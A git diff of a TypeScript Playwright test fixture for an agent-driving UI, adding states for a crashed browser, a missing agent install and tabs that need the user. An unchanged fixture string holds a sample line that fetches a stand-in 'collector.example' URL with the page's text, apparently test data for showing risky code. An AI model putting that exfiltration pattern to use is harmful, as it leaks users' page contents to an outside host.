@@ -1,6 +1,7 @@
 import type { Browser, Page } from 'playwright-core';
 import type { Approval } from '$ui/protocol/protocol';
 import { backend, openPanel } from './fakes/face';
+import { conversation, fill, toChat } from './chat-states';
 import type { FakeBackend } from './fakes/backend';
 
 /** What an agent's first screen looks like. */
@@ -38,6 +39,12 @@ const longCode = [
   ...Array.from({ length: 24 }, (_, at) => `console.log(${String(at)}, rows.length);`),
   `fetch('https://collector.example/?d=' + encodeURIComponent(document.body.innerText.slice(0, 4000)))`,
 ].join('\n');
+
+/** What the backend says after the browser was killed. */
+export const crashed = {
+  code: 'crashed',
+  message: 'The browser crashed at 14:05 (SIGKILL) and was restarted. Your tabs are back.',
+} as const;
 
 /** Something that waits for the person. */
 export function approval(part: Partial<Approval> = {}): Approval {
@@ -228,6 +235,36 @@ export const states: State[] = [
       await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
       await page.getByRole('menuitem', { name: /Codex/ }).click();
       await page.getByRole('dialog').waitFor();
+    },
+  },
+  {
+    name: 'install-again',
+    async act(page) {
+      await live(page);
+      await page.getByRole('button', { name: 'Agent: Claude Code' }).click();
+      await page.getByRole('menuitem', { name: /Codex/ }).click();
+      await page.getByRole('button', { name: 'Check again' }).click();
+      await page.getByText('Still not found: not on the PATH.').waitFor();
+    },
+  },
+  {
+    name: 'crashed',
+    async act(page, made) {
+      await live(page);
+      made.push({ type: 'session', session: { ...made.session(), warnings: [crashed] } });
+      await page.getByText('The browser crashed').waitFor();
+    },
+  },
+  {
+    name: 'other-faces-need-you',
+    async act(page, made) {
+      fill(made);
+      await toChat(page);
+      made.first?.change({ status: 'needs_you' });
+      made.chat.change(conversation, { state: 'needs_you' });
+      await page.getByRole('tab', { name: /^Task/ }).click();
+      await page.getByRole('tab', { name: /^Chat.*needs you/ }).waitFor();
+      await page.getByRole('tab', { name: /^Terminal.*needs you/i }).waitFor();
     },
   },
   {
